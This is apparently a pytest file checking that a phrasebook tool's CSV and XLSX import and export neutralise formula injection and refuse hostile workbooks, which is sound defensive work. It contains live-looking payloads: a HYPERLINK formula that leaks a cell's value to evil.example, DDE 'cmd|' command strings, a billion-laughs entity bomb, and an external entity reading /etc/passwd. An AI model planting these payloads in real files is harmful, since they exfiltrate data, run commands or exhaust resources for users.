"""Hostile spreadsheets (#20 items 2, 6, 8, 9): bounded, refused in one line, never cut short."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import threading
import zipfile
from pathlib import Path

import pytest

from chatassist.core.phrasebook import tabular
from chatassist.core.phrasebook.model import Entry, Phrasebook, Variant
from chatassist.core.phrasebook.tabular import read_csv, read_xlsx, write_csv, write_xlsx
from chatassist.core.spreadsheet_cells import neutralise_cell, restore_cell

WEAPONS = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your refund")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def book_with(texts: tuple[str, ...]) -> Phrasebook:
    tones = ("direct", "warm", "detailed")
    langs = ("en", "es", "fr", "de", "it", "pt", "nl", "pl", "ja", "ko")
    variants = tuple(
        Variant(langs[i // 3], tones[i % 3], f"{t} {{order_id}}") for i, t in enumerate(texts)
    )
    return Phrasebook(
        id="hostile",
        title={"zh-Hans": "测试", "en": "-Test"},
        entries=(
            Entry(
                id="order.status",
                scenarios=("order_status",),
                gloss={"zh-Hans": "订单", "en": "@order"},
                keywords={"en": ("=where", "+order")},
                variants=variants,
            ),
        ),
    )


def test_csv_export_neutralises_formulas_and_round_trips_exactly(tmp_path: Path) -> None:
    texts = (*WEAPONS, "'=already quoted", "'", "plain", "it's fine")
    book = book_with(texts)
    path = tmp_path / "hostile.csv"
    write_csv(book, path)
    raw = path.read_bytes().decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    loaded, problems = read_csv(path)
    assert problems == []
    assert loaded is not None and loaded.phrasebook == book


def test_neutralise_and_restore_are_inverse() -> None:
    for text in (*WEAPONS, "", "'", "''", "'a", "a'", "'=", "x=1", "- item"):
        assert restore_cell(neutralise_cell(text)) == text
    assert restore_cell("'hello") == "'hello"  # a quote we did not add stays


def test_xlsx_keeps_formula_text_as_text(tmp_path: Path) -> None:
    book = book_with(WEAPONS[:3])
    path = tmp_path / "hostile.xlsx"
    write_xlsx(book, path)
    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    loaded, problems = read_xlsx(path)
    assert problems == [] and loaded is not None and loaded.phrasebook == book


def test_a_csv_cell_over_the_limit_is_one_problem_with_its_line(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    path.write_text("phrasebook,entry_id\nbig,a\n" + "big,b" + "x" * 200_000 + "\n")
    loaded, problems = read_csv(path)
    assert loaded is None
    assert [str(p) for p in problems] == [
        f"{path}:3: not a readable CSV file: a cell is over 131,072 characters (the limit)"
    ]


def _unblocking(fifo: Path) -> threading.Timer:
    """If a read of ``fifo`` hangs (the bug), feed it after 5 s so the test fails, not hangs."""

    def feed() -> None:
        fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
        os.close(fd)

    timer = threading.Timer(5, lambda: _ignore(feed))
    timer.start()
    return timer


def _ignore(fn: object) -> None:
    with contextlib.suppress(OSError):
        fn()  # type: ignore[operator]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_fifo_is_refused_by_name(tmp_path: Path, suffix: str) -> None:
    fifo = tmp_path / f"book{suffix}"
    os.mkfifo(fifo)
    timer = _unblocking(fifo)
    try:
        loaded, problems = (read_csv if suffix == ".csv" else read_xlsx)(fifo)
    finally:
        timer.cancel()
    assert loaded is None
    assert [str(p) for p in problems] == [
        f"{fifo}: is a FIFO (named pipe), not a regular file; not read"
    ]


def test_a_device_is_refused_by_name() -> None:
    loaded, problems = read_csv(Path("/dev/zero"))
    assert loaded is None and "is a character device" in str(problems[0])


# --- XLSX: the declared size is not trusted --------------------------------------------


def _patch_sheet(path: Path, change: object) -> None:
    """Rewrite ``xl/worksheets/sheet1.xml`` of ``path`` with ``change(xml) -> xml``."""
    with zipfile.ZipFile(path) as zin:
        items = [(i, zin.read(i.filename)) for i in zin.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info, data in items:
            if info.filename == "xl/worksheets/sheet1.xml":
                data = change(data.decode()).encode()  # type: ignore[operator]
            zout.writestr(info.filename, data)


BOOK = book_with(("Hello", "Hi", "Dear customer", "Hola", "Buenas", "Estimado"))


def test_a_stale_dimension_does_not_cut_rows_off(tmp_path: Path) -> None:
    """Issue #20 item 2: with <dimension ref="A1:B2"/> openpyxl read two rows and
    the import then removed the entries it had not seen."""
    path = tmp_path / "stale.xlsx"
    write_xlsx(BOOK, path)
    _patch_sheet(path, lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:B2"', xml))
    loaded, problems = read_xlsx(path)
    assert problems == []
    assert loaded is not None and loaded.phrasebook == BOOK


def _add_cell(ref: str, row: int, value: str | None) -> object:
    cell = (
        f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'
        if value
        else f'<c r="{ref}" s="0"/>'
    )

    def change(xml: str) -> str:
        xml = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="A1:{ref}"', xml)
        return xml.replace("</sheetData>", f'<row r="{row}">{cell}</row></sheetData>')

    return change


def test_an_empty_cell_at_the_last_possible_place_costs_nothing(tmp_path: Path) -> None:
    """The issue's 84 KB file with one empty cell at XFD1048576 used 24 GB."""
    import resource

    path = tmp_path / "huge.xlsx"
    write_xlsx(BOOK, path)
    _patch_sheet(path, _add_cell("XFD1048576", 1048576, None))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    loaded, problems = read_xlsx(path)
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert problems == []
    assert loaded is not None and loaded.phrasebook == BOOK
    assert grown_kb < 200_000


@pytest.mark.parametrize(
    ("ref", "row", "message"),
    [
        ("A1048576", 1048576, ":R1048576: a value beyond row 100,000 (the limit); not read"),
        ("KZ3", 3, ":R3:C312: a value beyond column 256 (the limit); not read"),
    ],
)
def test_a_value_beyond_the_limits_refuses_the_file(
    tmp_path: Path, ref: str, row: int, message: str
) -> None:
    path = tmp_path / "far.xlsx"
    write_xlsx(BOOK, path)
    if row == 3:  # a cell added to an existing row, far to the right
        _patch_sheet(
            path,
            lambda xml: xml.replace(
                '</row><row r="4"',
                f'<c r="{ref}" t="inlineStr"><is><t>x</t></is></c></row><row r="4"',
                1,
            ),
        )
    else:
        _patch_sheet(path, _add_cell(ref, row, "surprise"))
    loaded, problems = read_xlsx(path)
    assert loaded is None
    assert [str(p) for p in problems] == [f"{path}:hostile{message}"]


def test_a_workbook_unpacking_beyond_the_limit_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "bomb.xlsx"
    write_xlsx(BOOK, path)
    monkeypatch.setattr(tabular, "MAX_UNPACKED_BYTES", 1000)
    loaded, problems = read_xlsx(path)
    assert loaded is None
    assert re.fullmatch(
        rf"{re.escape(str(path))}: unpacks to [\d,]+ bytes; the limit is 1,000", str(problems[0])
    )


@pytest.mark.parametrize(
    "doctype",
    [
        # billion laughs
        '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
        + "]>",
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ],
    ids=["entity-bomb", "external-entity"],
)
def test_entity_tricks_are_one_problem_not_a_traceback(tmp_path: Path, doctype: str) -> None:
    path = tmp_path / "entities.xlsx"
    write_xlsx(BOOK, path)
    last = "&i;" if "aaaa" in doctype else "&x;"
    _patch_sheet(
        path,
        lambda xml: doctype + xml.replace("<t>Hello {order_id}</t>", f"<t>{last}</t>"),
    )
    loaded, problems = read_xlsx(path)
    assert loaded is None
    assert len(problems) == 1
    assert str(problems[0]).startswith(f"{path}:hostile: not a readable .xlsx workbook: ")
    assert "root:" not in str(problems[0])
